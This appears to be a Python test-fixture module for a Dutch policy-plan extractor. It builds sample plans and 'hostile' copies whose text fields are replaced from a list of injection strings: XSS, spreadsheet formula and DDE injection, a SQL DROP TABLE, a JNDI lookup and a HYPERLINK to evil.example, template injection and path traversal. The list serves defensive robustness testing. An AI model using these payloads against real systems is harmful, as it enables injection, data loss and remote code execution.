"""A made-up plan that fills every field of the model, and hostile copies of any plan."""

from __future__ import annotations

import types
import zlib
from collections.abc import Callable, Sequence
from datetime import date
from typing import Any, Literal, Union, get_args, get_origin

from pydantic import BaseModel

from extractors.plan.corrections import correct
from extractors.plan.normalization import normalize
from schemas.corrections import Corrections
from schemas.plan import (
    Action,
    Amount,
    Coverage,
    Finding,
    Indicator,
    Item,
    Message,
    Minister,
    Objective,
    Organisation,
    Period,
    Place,
    Plan,
    Quantity,
    Reference,
    Section,
    Source,
    Step,
    Timing,
)
from tests.corrections.documents import NUMBER, document, fragment, line
from tests.places import NO_PLACE


def place(page: int, top: float = 100.0) -> Place:
    return Place(page=page, bbox=(45.0, top, 300.25, top + 9.01))


def item(text: str, page: int = 3, marker: str | None = "•", level: int = 0) -> Item:
    return Item(text=text, marker=marker, level=level, source=[place(page)])


def sample_plan(plan_id: str = "plan-a", title: str = "Een plan", sha256: str = "ab" * 32) -> Plan:
    """Two fiches under two levels of objectives; the second fiche is nearly empty."""
    first = Action(
        id="11111111-1111-5111-8111-111111111111",
        number="3.1.1.1",
        title="Vorming voor scholen",
        title_source=[place(3, 50)],
        strategic_objective="3.1",
        operational_objective="3.1.1",
        status="continued_with_new_elements",
        prevention_types=["universal", "selective"],
        prevention_text=item("Universele en selectieve preventie", marker=None),
        lead_ministers=[
            Minister(raw="Minister van Onderwijs", id="onderwijs", name="Minister van Onderwijs", source=[place(3)]),
            Minister(raw="Minister van Toverkunst", source=[place(3)]),
        ],
        description=[item("Eerste alinea", marker=None), item("Een punt", marker="-"), item("Dieper", level=1)],
        approach=[
            Step(
                text="Twee timings",
                marker="o",
                phase="Fase 1",
                source=[place(3), place(4)],
                timing=[
                    Timing(
                        position=0,
                        start_char=0,
                        end_char=4,
                        raw="Q4 2025",
                        edtf="2025-36",
                        start=date(2025, 10, 1),
                        end=date(2025, 12, 31),
                    ),
                    Timing(
                        position=0,
                        start_char=5,
                        end_char=12,
                        raw="vanaf 2027",
                        edtf="2027/..",
                        start=date(2027, 1, 1),
                        recurrence="4 per year",
                    ),
                ],
            ),
            Step(text="Zonder timing", source=[place(4)]),
            Step(
                text="Onleesbaar",
                source=[place(4)],
                timing=[Timing(position=2, start_char=0, end_char=10, raw="binnenkort")],
            ),
        ],
        concrete_results=[item("Resultaat")],
        intended_effects=[item("Effect")],
        results_measurement=[item("Resultaat meten")],
        effects_measurement=[item("Effect meten")],
        indicators=[Indicator(text="Aantal scholen", measure="count", source=[place(4)])],
        resources=item("100.000 euro per jaar", marker=None),
        budget=item("Ten hoogste 50.000,50 euro", marker=None),
        progress=item("Lopend", marker=None),
        partners=[item("VVSG")],
        other_fields={"Doelgroep": [item("Jongeren")]},
        amounts=[
            Amount(
                **NO_PLACE,
                field="resources",
                raw="100.000 euro",
                amount="100000",
                per="year",
                vat="incl",
                source=[place(4)],
            ),
            Amount(
                **NO_PLACE,
                field="budget",
                raw="50.000,50 euro",
                amount="50000.50",
                bound="max",
                year=2026,
                source=[place(4)],
            ),
            Amount(
                **NO_PLACE,
                field="budget",
                raw="3 dollar",
                amount="3",
                currency="USD",
                bound="approx",
                source=[place(4)],
            ),
        ],
        references=[
            Reference(
                **NO_PLACE, kind="action", raw="actie 3.1.1.2", target="3.1.1.2", field="description", source=[place(3)]
            ),
            Reference(**NO_PLACE, kind="action", raw="actie 9.9", target=None, field="description", source=[place(3)]),
            Reference(
                **NO_PLACE,
                kind="law",
                raw="decreet van 22 maart 2024",
                target="decreet/2024-03-22",
                field="description",
                source=[place(3)],
            ),
            Reference(
                **NO_PLACE,
                kind="law",
                raw="GDPR",
                target="verordening/eu/2016/679",
                field="description",
                source=[place(3)],
            ),
            Reference(
                **NO_PLACE,
                kind="document",
                raw="VR 2025 0404",
                target="VR 2025 0404 MED.0110/2TER",
                field="budget",
                source=[],
            ),
        ],
        organisations=[
            Organisation(**NO_PLACE, id="abb", raw="ABB", field="description"),
            Organisation(**NO_PLACE, id="abb", raw="ABB", field="approach"),
            Organisation(**NO_PLACE, id="onbekend", raw="De Onbekende", field="partners"),
        ],
        quantities=[
            Quantity(
                **NO_PLACE,
                field="concrete_results",
                raw="minstens 80%",
                value="80",
                unit="percent",
                bound="min",
                role="target",
                source=[place(4)],
            ),
            Quantity(
                **NO_PLACE,
                field="concrete_results",
                raw="40 %",
                value="40",
                unit="percent",
                role="baseline",
                source=[place(4)],
            ),
            Quantity(
                **NO_PLACE,
                field="progress",
                raw="2,5 uur per week",
                value="2.5",
                unit="hour",
                per="week",
                source=[place(4)],
            ),
        ],
        source=[place(3), place(4)],
    )
    second = Action(id="22222222-2222-5222-8222-222222222222", number="3.1.1.2", title="Bijna leeg")
    return Plan(
        plan_id=plan_id,
        title=title,
        period=Period(start=2025, end=2029),
        source=Source(
            file=f"{plan_id}.pdf", sha256=sha256, pages=4, template="proef", template_version="1", extractor="0.1.0"
        ),
        sections=[
            Section(number="3", kind="chapter", title="Acties", page=2, body=[item("Inleiding"), item("Vervolg")]),
            Section(number="3.1", kind="strategic_objective", title="Doel", page=2, parent="3"),
        ],
        strategic_objectives=[Objective(number="3.1", title="Doel", source=[place(2)])],
        operational_objectives=[Objective(number="3.1.1", title="Onderdoel", parent="3.1", source=[place(2)])],
        actions=[first, second],
        footnotes=[item("Een voetnoot", marker="1")],
        findings=[
            Finding(
                code="timing_missing",
                severity="info",
                message=Message(nl="Geen timing.", en="No timing."),
                action="3.1.1.1",
                field="approach",
                source=[place(4)],
            ),
            Finding(code="document", severity="error", message=Message(nl="Over alles.", en="On everything.")),
        ],
        coverage=Coverage(characters=10, by_role={"field": 10, "unassigned": 0}),
    )


CORRECTIONS: tuple[dict[str, Any], ...] = (
    {"op": "replace", "field": "title", "was": "brug", "value": "tunnel"},
    {"op": "set", "field": "status", "was": "new", "value": "continued"},
    {"op": "replace", "field": "approach", "was": "Q1 2205", "value": "Q1 2025"},
    {"op": "replace", "field": "approach", "was": "bouwen", "value": "aanbesteden", "reason": "Eerst."},
    {"op": "replace", "field": "approach", "was": "aanbesteden", "value": "gunnen", "reason": "Dan."},
    {"op": "drop", "field": "approach", "was": "Overbodig"},
    {"op": "set", "field": "lead_ministers", "was": "Minister van Medai", "value": "Minister van Media"},
    {"op": "set", "field": "budget", "was": "1.000 euro", "value": "Ten hoogste 2.000 euro"},
    {"op": "drop", "field": "progress", "was": "Weg hiermee"},
    {"op": "split", "field": "indicators", "was": "Bruggen Tunnels", "value": ["Bruggen", "Tunnels"]},
    {"op": "merge", "field": "intended_effects", "was": ["Een half", "effect"]},
    {"op": "set", "field": "partners", "was": None, "value": "VVSG"},
    {"op": "assign", "field": "resources", "was": ["en personeel"]},
    {"op": "replace", "field": "other_fields/Doelgroep", "was": "Jogneren", "value": "Jongeren"},
)
"""One of every kind, as data/corrections has them; the fourth changes what the third made of the second step."""


def corrected_plan(plan_id: str = "plan-c", corrections: Sequence[dict[str, Any]] = CORRECTIONS) -> Plan:
    """A plan of one fiche as it is read with corrections."""
    printed = document(
        {
            "approach": [fragment("Start (Q1 2205)"), fragment("Brug bouwen", 110), fragment("Overbodig", 120)],
            "lead_ministers": [fragment("Minister van Medai\nMinister van Onderwijs", 130)],
            "budget": [fragment("1.000 euro", 140)],
            "progress": [fragment("Weg hiermee", 150)],
            "indicators": [fragment("Bruggen Tunnels", 160)],
            "intended_effects": [fragment("Een half", 170), fragment("effect", 180)],
            "resources": [fragment("Geld", 190)],
        },
        [line("en personeel", 200)],
        status="new",
    )
    printed.fiches[0].title_source = [place(1, 90)]
    printed.fiches[0].source = [place(1)]
    printed.fiches[0].other_fields = {"Doelgroep": [fragment("Jogneren", 210)]}
    given = [{"action": NUMBER, "reason": "Nagevraagd.", **entry} for entry in corrections]
    changed = correct(printed, Corrections.model_validate({"plan_id": plan_id, "corrections": given}).corrections)
    source = Source(file=f"{plan_id}.pdf", sha256="ef" * 32, pages=1, template="t", template_version="1", extractor="1")
    return normalize(changed, plan_id, source, ())


HOSTILE: tuple[str, ...] = (
    '<script>alert("x")</script>',
    "</textarea><img src=x onerror=alert(1)>&lt;",
    '=HYPERLINK("http://evil.example","klik")',
    "+32 475/00.00.00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n-1",
    "tekst;=1+1;@x\t+1",
    "\uff1d1+1",
    "'=1+1",
    "''; DROP TABLE actions; --",
    'een "aanhaling", een komma\r\nen een regel',
    "\u202egnp.exe\u2066 \u200frechts naar links \u05d0\u0628",
    "\x00\x07\x1b[31mrood\x7f\x9f",
    "half \ud800 paar \udc00",
    "geen teken \ufffe\uffff\U0001ffff",
    "regel\u2028einde\u2029",
    "{{7*7}} ${jndi:ldap://evil.example} %s %(x)s {0}",
    "../../etc/passwd\\..\\x",
    "javascript:alert(1)",
    "]]><!--",
    '{"@id": "http://evil.example", "@type": "@id"}',
    "_x000D_ \\u0000 \\",
    "woord" * 20_000,
    "\U0001d11e" * 33_000,
)
"""Texts that break or fool programs; the last two are longer than a cell of a workbook."""
_TYPED = {("Amount", "amount"), ("Quantity", "value"), ("Plan", "schema_version"), ("Corrected", "field")}


def hostile_plan(plan: Plan, hostile: Sequence[str] = HOSTILE) -> Plan:
    """The plan with every text replaced, the same text by the same one, so that numbers still point to fiches."""
    used: dict[str, str] = {}

    def replace(text: str) -> str:
        if text not in used:
            # The number keeps them apart, in the middle of nothing that matters.
            used[text] = f"{hostile[(zlib.crc32(text.encode()) + len(used)) % len(hostile)]} {len(used)}"
        return used[text]

    return Plan.model_validate(_replaced(plan, replace))


def uniform_plan(plan: Plan, text: str) -> Plan:
    """The plan with every text the same."""
    return Plan.model_validate(_replaced(plan, lambda _: text))


def _replaced(value: Any, replace: Callable[[str], str]) -> Any:
    if isinstance(value, BaseModel):
        kind = type(value)
        return {
            name: getattr(value, name)
            if (kind.__name__, name) in _TYPED or _has_literal(info.annotation)
            else _replaced(getattr(value, name), replace)
            for name, info in kind.model_fields.items()
        }
    if isinstance(value, str):
        return replace(value)
    if isinstance(value, list | tuple):
        return [_replaced(inner, replace) for inner in value]
    if isinstance(value, dict):
        return {replace(key): _replaced(inner, replace) for key, inner in value.items()}
    return value


def _has_literal(annotation: Any) -> bool:
    origin = get_origin(annotation)
    if origin is Literal:
        return True
    return origin in (Union, types.UnionType, list, dict) and any(_has_literal(a) for a in get_args(annotation))
